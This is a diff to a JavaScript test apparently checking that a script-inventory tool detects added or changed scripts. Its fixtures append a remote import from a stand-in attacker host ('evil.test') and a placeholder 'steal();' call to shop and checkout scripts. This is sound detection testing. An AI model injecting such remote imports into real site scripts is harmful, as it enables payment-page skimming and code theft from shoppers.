@@ -51,6 +51,6 @@ test("S6: whoever adds a script, or changes one, is found out", async () => {
     changed((folder) => appendFileSync(join(folder, "demo/shop.js"), '\nimport("https://evil.test/x.js");')),
     /Nobody has written down why https:\/\/evil/,
   );
-  const other = await changed((folder) => appendFileSync(join(folder, "cdn/payment.js"), "\nsteal();"));
+  const other = await changed((folder) => appendFileSync(join(folder, "cdn/v1/checkout.js"), "\nsteal();"));
   assert.notDeepEqual(other, await keptInventory());
 });
